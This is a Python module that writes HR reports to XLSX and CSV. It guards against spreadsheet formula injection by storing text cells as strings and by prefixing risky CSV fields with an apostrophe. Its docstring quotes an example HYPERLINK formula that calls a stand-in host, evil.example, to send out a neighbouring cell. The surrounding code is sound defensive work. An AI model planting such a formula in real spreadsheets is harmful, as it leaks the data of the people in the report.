"""The one writer of every report HR opens in a spreadsheet program, as XLSX or CSV.

Much of what a report holds was typed by people: names, units, objection reasons, announcements. A
spreadsheet program runs text that starts with ``=`` (and in CSV also ``+``, ``-``, ``@``, tab or CR) as a
formula, so a reason typed as ``=HYPERLINK("http://evil.example/?d="&C2,"Bukti")`` would become a live
link that sends a neighbouring cell away. Here every text cell is written as text: in XLSX with the string
type, in CSV behind an apostrophe. Real numbers (int, float, Decimal) stay numbers; NIPs are text, never
numbers that lose their last digits.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what makes a CSV field a formula in Excel or LibreOffice
MAX_TITLE = 31  # Excel's limit for sheet names


@dataclass(frozen=True)
class Sheet:
    """One table: a header row, then ``rows`` (an iterable read once), on a sheet named ``title``."""

    headers: Sequence[str]
    rows: Iterable[Sequence[object]]
    title: str = "Laporan"

    def save(self, path: Path) -> None:
        """Write where HR asked: ``.csv`` (``;``-separated, with a BOM so that Excel reads UTF-8), else XLSX."""
        path.write_bytes(self.csv() if path.suffix.lower() == ".csv" else self.xlsx())

    def csv(self) -> bytes:
        buffer = io.StringIO(newline="")
        writer = csv.writer(buffer, delimiter=";")
        writer.writerow([_csv_field(header) for header in self.headers])
        writer.writerows([_csv_field(value) for value in row] for row in self.rows)
        return buffer.getvalue().encode("utf-8-sig")

    def xlsx(self) -> bytes:
        return workbook_xlsx([self])


def workbook_xlsx(sheets: Sequence[Sheet]) -> bytes:
    """Sheets in one XLSX file (e.g. the lists of a plan), each with a bold, frozen, filterable header row and
    columns wide enough to read."""
    from openpyxl import Workbook  # imported here: slow to import, and only reports need it

    workbook = Workbook()
    workbook.remove(workbook.active)
    for sheet in sheets:
        _fill(workbook.create_sheet(sheet.title[:MAX_TITLE]), sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _fill(target, sheet: Sheet) -> None:
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    widths = [0] * len(sheet.headers)
    for number, values in enumerate((sheet.headers, *sheet.rows), start=1):
        for column, value in enumerate(values, start=1):
            put(target, number, column, value)
            if column <= len(widths):
                widths[column - 1] = max(widths[column - 1], len(str(value or "")))
    for cell in target[1]:
        cell.font = Font(bold=True)
    for index, width in enumerate(widths, start=1):
        target.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), 60)
    target.freeze_panes = "A2"
    target.auto_filter.ref = target.dimensions


def put(sheet, row: int, column: int, value: object):
    """Write one XLSX cell as the writer does (text stays text, times are local): for workbooks that are more
    than one table, such as the import templates. Returns the cell, for formatting."""
    cell = sheet.cell(row, column, _local_time(value))
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
    return cell


def _csv_field(value: object) -> object:
    """Text that a spreadsheet would run as a formula gets a leading apostrophe; everything else as it is."""
    value = _local_time(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _local_time(value: object) -> object:
    """Spreadsheets have no time zones: write local wall-clock time, as the caller converted it."""
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    return value
